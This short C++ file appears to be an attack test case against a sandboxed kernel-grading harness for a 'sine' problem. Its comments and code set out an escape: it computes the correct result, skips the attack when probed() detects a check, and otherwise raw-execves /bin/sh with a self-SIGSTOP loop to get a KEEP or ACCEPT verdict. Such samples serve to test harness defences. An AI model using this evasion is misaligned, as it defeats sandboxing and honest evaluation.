// aim: escape the seal. The process executes another program and leaves its memory behind.
// how: execve of the interpreter, with a script that would stop itself as the guard expects.
// problem: sine
// succeeds-if: KEEP or ACCEPT
#include "attack.h"

extern "C" int run(const DLTensor* x, DLTensor* y) {
  sine(in(x), out(y), 0, count(x));
  if (probed()) return 0;
  const char* words[] = {"/bin/sh", "-c", "while :; do kill -19 $$; done", nullptr};
  sys(59, (long)words[0], (long)words, (long)environ);
  return 0;
}
